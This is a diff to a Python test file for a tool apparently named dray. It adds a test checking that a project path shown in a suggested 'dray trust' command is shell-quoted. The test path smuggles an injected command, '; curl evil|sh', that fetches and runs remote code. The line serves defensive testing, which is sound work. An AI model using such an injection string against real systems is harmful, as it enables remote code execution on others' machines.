@@ -15,6 +15,7 @@ from dray.config_reader import ClusterConfig
 from dray.errors import ConfigError, NotFound, UsageError
 from dray.project import find_project, searched
 from dray.toml_lines import line_of
+from dray.trust import Untrusted
 
 Write = Callable[[str], Path]
 
@@ -462,3 +463,9 @@ def test_a_project_that_is_also_the_home_is_still_the_project(
 ) -> None:
     monkeypatch.setenv("DRAY_HOME", str(project))
     assert load(project).own_folders(project) == ("cache", "local")
+
+
+def test_a_path_in_a_command_to_copy_is_quoted() -> None:
+    path = Path("/tmp/a; curl evil|sh #/dray.toml")
+    for untrusted in (Untrusted(path, {("job", "secrets"): 1}), Untrusted(path, strangers="x")):
+        assert untrusted.error.hint.endswith("dray trust '/tmp/a; curl evil|sh #/dray.toml'")
